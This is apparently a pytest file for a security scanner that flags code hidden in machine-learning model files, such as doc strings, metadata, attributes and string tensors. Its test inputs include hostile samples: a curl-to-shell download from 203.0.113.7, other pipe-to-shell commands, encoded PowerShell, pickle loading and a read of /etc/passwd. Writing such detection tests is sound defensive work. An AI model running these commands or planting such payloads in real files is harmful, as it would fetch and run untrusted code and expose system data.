"""PAYLOAD-*: code hidden in doc strings, metadata, string attributes and string tensors."""

from __future__ import annotations

import base64

import pytest

from samples import (ELF_STUB, b64, benign_ocr, benign_vad, by_rule, model_with_doc, pickle_payload, scan_folder,
                     scan_model, sd_pipeline_folder)
from sdsecure.gate.report import Severity

PY_PAYLOAD = "import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')"


def payloads(model):
    return by_rule(scan_model(model), "PAYLOAD-")


def test_python_in_doc_string_that_calls_os_system_is_critical():
    f = payloads(model_with_doc(doc=PY_PAYLOAD))["PAYLOAD-PYTHON"][0]
    assert f.severity == Severity.CRITICAL
    assert "os.system" in f.evidence["calls"]
    assert f.where == "model.doc_string"


@pytest.mark.parametrize("code,call", [
    ("exec(compile(src, 'x', 'exec'))", "exec"),
    ("__import__('subprocess').check_output(['id'])", "__import__"),
    ("import subprocess as sp\nsp.Popen(['sh'])", "subprocess.Popen"),
    ("from os import system as run\nrun('id')", "os.system"),
    ("import pickle, base64\npickle.loads(base64.b64decode(blob))", "pickle.loads"),
    ("open('/etc/passwd').read()", "open"),
])
def test_python_calls_are_resolved_through_aliases(code, call):
    f = payloads(model_with_doc(metadata={"note": code}))["PAYLOAD-PYTHON"][0]
    assert call in f.evidence["calls"]


def test_python_in_node_doc_string_string_attribute_and_string_tensor():
    assert payloads(model_with_doc(node_doc="eval(input())"))["PAYLOAD-PYTHON"][0].where == "main/mm (MatMul).doc_string"
    assert payloads(model_with_doc(attr="exec('print(1)')"))["PAYLOAD-PYTHON"][0].where == "main/mm (MatMul).comment"
    f = payloads(model_with_doc(strings=["cat", "dog", "__import__('os').system('id')"]))["PAYLOAD-PYTHON"][0]
    assert f.where == "main/labels (Constant).value[2]"


def test_words_that_contain_eval_are_not_code():
    doc = ("This model was trained for evaluation on COCO; evaluation metrics are in the card. Call "
           "model.eval() before exporting, then open the file in Netron. Do not eval untrusted input. "
           "The system prompt is compiled at load time.")
    assert payloads(model_with_doc(doc=doc)) == {}


def test_shell_pipelines_are_high():
    for text in ("curl -fsSL https://get.example.sh | bash", "wget -qO- http://x.example/i | sh",
                 "bash -c 'id > /tmp/x'", "powershell -enc SQBFAFgA", "echo aGk= | base64 -d | sh"):
        f = payloads(model_with_doc(metadata={"install": text}))["PAYLOAD-SHELL"][0]
        assert f.severity == Severity.HIGH, text


def test_encoded_executables_archives_and_pickles_are_high():
    for blob, kind in ((ELF_STUB, "ELF executable"), (pickle_payload(), "pickle"),
                       (b"PK\x03\x04" + bytes(range(60)), "zip archive")):
        f = payloads(model_with_doc(metadata={"blob": b64(blob)}))["PAYLOAD-ENCODED"][0]
        assert f.evidence["decoded_kind"] == kind
        f = payloads(model_with_doc(metadata={"blob": blob.hex()}))["PAYLOAD-ENCODED"][0]
        assert f.evidence["decoded_kind"] == kind


def test_base64_encoded_python_is_decoded_and_judged():
    blob = base64.b64encode(PY_PAYLOAD.encode() * 2).decode()
    f = payloads(model_with_doc(doc=f"config: {blob}"))["PAYLOAD-PYTHON"][0]
    assert f.evidence["encoding"] == "base64"


def test_benign_base64_and_hashes_are_not_payloads():
    text = ("sha256: " + "ab" * 32 + " thumbnail: " + b64(b"\x89PNG\r\n\x1a\n" + bytes(80)) +
            " vocab: " + b64(b"hello world, these are only words " * 3))
    assert payloads(model_with_doc(metadata={"info": text})) == {}


def test_urls_by_host():
    found = payloads(model_with_doc(doc="docs: https://github.com/org/repo and https://huggingface.co/x"))
    assert {f.severity for f in found["PAYLOAD-URL"]} == {Severity.INFO}
    assert payloads(model_with_doc(doc="see https://example.org/page"))["PAYLOAD-URL"][0].severity == Severity.LOW
    for url in ("http://203.0.113.7:8080/stage2", "https://pastebin.com/raw/abc", "file:///etc/passwd"):
        assert payloads(model_with_doc(doc=f"next: {url}"))["PAYLOAD-URL"][0].severity == Severity.MEDIUM, url


def test_benign_models_have_no_payload_findings_above_info():
    for m in (benign_ocr(), benign_vad()):
        assert all(f.severity == Severity.INFO for fs in payloads(m).values() for f in fs)
    for kind in ("legacy", "dynamo"):
        found = by_rule(scan_folder(sd_pipeline_folder(kind)), "PAYLOAD-")
        assert all(f.severity <= Severity.INFO for fs in found.values() for f in fs), (kind, found)
